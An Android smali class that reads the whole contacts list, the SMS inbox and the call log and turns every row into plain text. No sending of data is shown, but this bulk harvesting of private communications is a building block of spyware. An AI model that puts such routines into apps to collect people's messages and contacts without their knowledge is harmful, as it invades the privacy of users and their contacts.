# SPDX-License-Identifier: Apache-2.0
# One reader per data kind; each returns every row as text.
.class public final Lcom/example/jiyongqian/DeviceRecords;
.super Ljava/lang/Object;
.source "DeviceRecords.java"

.method public static readContacts(Landroid/content/ContentResolver;)Ljava/lang/String;
    .registers 2
    sget-object v0, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
    invoke-static {p0, v0}, Lcom/example/jiyongqian/DeviceRecords;->readAll(Landroid/content/ContentResolver;Landroid/net/Uri;)Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method

.method public static readSms(Landroid/content/ContentResolver;)Ljava/lang/String;
    .registers 7
    const-string v0, "content://sms/inbox"
    invoke-static {v0}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
    move-result-object v1
    const/4 v2, 0x0
    const/4 v3, 0x0
    const/4 v4, 0x0
    const-string v5, "date DESC"
    move-object v0, p0
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    invoke-static {v0}, Lcom/example/jiyongqian/DeviceRecords;->joinRows(Landroid/database/Cursor;)Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method

.method public static readCallLog(Landroid/content/ContentResolver;)Ljava/lang/String;
    .registers 7
    sget-object v1, Landroid/provider/CallLog$Calls;->CONTENT_URI:Landroid/net/Uri;
    const/4 v2, 0x0
    const/4 v3, 0x0
    const/4 v4, 0x0
    const-string v5, "date DESC"
    move-object v0, p0
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    invoke-static {v0}, Lcom/example/jiyongqian/DeviceRecords;->joinRows(Landroid/database/Cursor;)Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method

.method private static readAll(Landroid/content/ContentResolver;Landroid/net/Uri;)Ljava/lang/String;
    .registers 8
    const/4 v2, 0x0
    const/4 v3, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    move-object v0, p0
    move-object v1, p1
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    invoke-static {v0}, Lcom/example/jiyongqian/DeviceRecords;->joinRows(Landroid/database/Cursor;)Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method

.method private static joinRows(Landroid/database/Cursor;)Ljava/lang/String;
    .registers 6
    new-instance v0, Ljava/lang/StringBuilder;
    invoke-direct {v0}, Ljava/lang/StringBuilder;-><init>()V
    if-eqz p0, :done
    :next_row
    invoke-interface {p0}, Landroid/database/Cursor;->moveToNext()Z
    move-result v1
    if-eqz v1, :close
    const/4 v1, 0x0
    invoke-interface {p0}, Landroid/database/Cursor;->getColumnCount()I
    move-result v2
    :next_column
    if-ge v1, v2, :end_row
    invoke-interface {p0, v1}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v3
    invoke-virtual {v0, v3}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    const/16 v3, 0x2c
    invoke-virtual {v0, v3}, Ljava/lang/StringBuilder;->append(C)Ljava/lang/StringBuilder;
    add-int/lit8 v1, v1, 0x1
    goto :next_column
    :end_row
    const/16 v3, 0xa
    invoke-virtual {v0, v3}, Ljava/lang/StringBuilder;->append(C)Ljava/lang/StringBuilder;
    goto :next_row
    :close
    invoke-interface {p0}, Landroid/database/Cursor;->close()V
    :done
    invoke-virtual {v0}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method
